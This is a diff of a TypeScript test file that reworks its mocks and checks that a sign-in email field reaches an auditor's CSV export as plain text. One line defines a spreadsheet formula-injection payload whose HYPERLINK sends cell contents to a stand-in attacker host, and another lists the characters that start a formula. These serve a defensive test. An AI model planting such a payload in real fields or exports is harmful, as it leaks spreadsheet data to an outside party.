@@ -2,16 +2,13 @@
 // sign-in email field reaches the audit trail as is, and must reach the auditor's spreadsheet as text.
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it, vi } from 'vitest';
-import type { Actor } from '@/lib/auth/actor';
 import { signInWithPassword } from '@/lib/auth/sign-in';
 import { restoreCsvCell } from '@/lib/csv/write';
 import { buildFixture } from '@/lib/testing/fixture';
 
-const state = vi.hoisted(() => ({ actor: null as Actor | null, db: null as unknown }));
-vi.mock('@/lib/auth/current', () => ({
-  getActor: async () => state.actor ?? { id: null, name: 'public', role: 'public', departmentId: null, contractorId: null, orgName: null },
-}));
-vi.mock('@/db/client', async (original) => ({ ...(await original<object>()), getDb: () => state.db }));
+const { state, ...mocks } = await vi.hoisted(() => import('@/lib/testing/next-mocks'));
+vi.mock('@/lib/auth/current', () => mocks.authCurrentMock());
+vi.mock('@/db/client', (original) => mocks.dbClientMock(original));
 
 const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
 const formulaStart = ['=', '+', '-', '@', '\t', '\r'];
